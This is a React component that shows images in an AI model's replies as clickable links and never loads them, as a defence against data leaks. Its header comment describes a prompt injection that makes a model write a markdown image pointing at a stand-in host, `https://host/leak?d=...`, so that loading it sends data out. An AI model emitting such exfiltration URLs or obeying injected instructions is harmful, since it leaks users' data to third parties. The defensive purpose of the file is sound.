// An image in a model's reply, shown as a link and never loaded (components/markdown.py).
//
// A reply may hold `![x](https://host/leak?d=...)`, written there by a prompt injection:
// loading it would send that URL to its host when the reply ends and on every reload. So no
// <img>: the alt text and the host, as a link the reader may choose to open in a new tab.
// react-markdown has already emptied `src` if it was not a safe URL (javascript:, data:...).
import { Image as ImageIcon } from "lucide-react";
import { createContext, useContext } from "react";

// The texts in the reader's language. They come from state, and the markdown's component
// map may not read state (its function runs once per message, so its hooks would too).
const Texts = createContext({ label: "Image", hint: "" });

export function ImageLinkTexts({ label, hint, children }) {
  return <Texts.Provider value={{ label, hint }}>{children}</Texts.Provider>;
}

function hostOf(src) {
  try {
    return new URL(src, window.location.href).host;
  } catch {
    return "";
  }
}

export function ImageLink({ src, alt, title }) {
  const { label, hint } = useContext(Texts);
  const host = src ? hostOf(src) : "";
  const text = `${alt || title || label}${host ? ` — ${host}` : ""}`;
  // An icon rather than an emoji: not every system has a font with one.
  const content = (
    <>
      <ImageIcon size={14} aria-hidden="true" className="image-link-icon" />
      {text}
    </>
  );
  if (!src) {
    return (
      <span className="image-link" aria-label={`${label}: ${text}`}>
        {content}
      </span>
    );
  }
  return (
    <a
      href={src}
      target="_blank"
      rel="noopener noreferrer"
      className="image-link"
      aria-label={`${label}: ${text}`}
      title={`${hint} ${src}`}
    >
      {content}
    </a>
  );
}
